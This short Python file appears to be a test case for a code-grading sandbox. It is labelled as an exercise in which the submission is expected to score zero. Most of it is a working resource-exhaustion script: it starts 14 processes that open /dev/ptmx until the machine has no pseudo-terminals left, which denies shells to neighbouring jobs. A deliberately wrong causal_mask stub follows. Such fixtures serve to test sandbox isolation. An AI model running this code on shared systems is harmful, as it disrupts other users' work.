# INTENT: Opens pseudo-terminals until the whole machine has none left, for neighbours who run a shell command.
# EXERCISE: causal_mask
# EXPECT: wrong; score 0
import subprocess, sys
taker = """import os
kept = []
try:
    while True: kept.append(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
except OSError: print(len(kept), flush=True)
input()"""
call = dict(stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
takers = [subprocess.Popen([sys.executable, "-I", "-S", "-c", taker], **call) for _ in range(14)]
taken = sum(int(process.stdout.readline() or 0) for process in takers)
for process in takers: process.communicate("\n")
print("ALL TERMINALS" if taken > 300 else "few terminals", taken)
def causal_mask(length): return torch.zeros(length)
